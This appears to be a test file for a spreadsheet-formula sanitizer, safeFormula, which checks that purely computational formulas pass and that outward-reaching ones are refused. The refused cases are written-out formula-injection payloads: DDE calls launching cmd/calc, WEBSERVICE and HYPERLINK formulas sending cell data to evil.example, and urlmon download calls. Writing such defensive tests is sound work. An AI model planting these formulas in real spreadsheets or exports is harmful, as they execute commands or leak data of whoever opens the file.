import { expect, test } from "bun:test";
import { safeFormula } from "./safe-formula.ts";

test.each([
  "=SUM(B2:B9)",
  "=IF(A1>0, VLOOKUP(A1, 'Other sheet'!$A$1:$B$9, 2, FALSE), \"a | b [c] http://x\")",
  "=Sales!B2*1.19",
  '=ROUND(AVERAGE(A1:A3),2)&" EUR"',
  "=_xlfn.XLOOKUP(A1,B:B,C:C)",
  `=${"1".repeat(8_000)}`,
])("a formula that computes with the workbook's own cells is written: %s", (formula) => {
  expect(safeFormula(formula, "S!A1")).toBe(formula.slice(1));
});

test.each([
  ["=cmd|'/c calc'!A0", "calls another program"],
  ["=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''", ""],
  ['=DDE("cmd","/c calc","x")', "DDE is not a function that only computes"],
  ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "HYPERLINK"],
  ['=WEBSERVICE("https://evil.example/?d="&A1)', "WEBSERVICE"],
  ['=_xlfn.WEBSERVICE("https://evil.example")', "_xlfn.WEBSERVICE"],
  ['=IMAGE("https://evil.example/a.png")', "IMAGE"],
  ['=IMPORTXML("https://evil.example","//a")', "IMPORTXML"],
  ["=INDIRECT(\"'[b.xlsx]S'!A1\")", "INDIRECT"],
  ["='[book.xlsx]Sheet1'!A1", "another workbook"],
  ["=[1]Sheet1!A1", "another workbook"],
  ["='https://evil.example/[b.xlsx]S'!A1", "another workbook"],
  ["='\\\\evil.example\\share\\[b.xlsx]S'!A1", "another workbook"],
  ['=CALL("urlmon","URLDownloadToFileA","JJCCJJ")', "CALL"],
  ['=RTD("prog",,"x")', "RTD"],
  ['=SUM ("a")+EXEC ("calc")', "EXEC"],
  ['=SUM(A1,"', "a quote is not closed"],
  ["=https://evil.example/S!A1", "signs that no computation needs"],
  ["=@A1", "signs that no computation needs"],
  ["={1;2}", "signs that no computation needs"],
  ["=\\\\evil.example\\S!A1", "signs that no computation needs"],
  ["='C:S'!A1", "another workbook"],
  ["='a|b'!A1", "calls another program"],
  ["='a/b'!A1", "another workbook"],
  [`=A1+${"1".repeat(8_000)}`, "a formula has 1 to 8000 characters"],
  ["=", "a formula has 1 to 8000 characters"],
])("a formula that could reach outside is refused: %s", (formula, why) => {
  expect(() => safeFormula(formula, "S!A1")).toThrow(
    expect.objectContaining({ code: "forbidden", message: expect.stringContaining(why) }),
  );
});
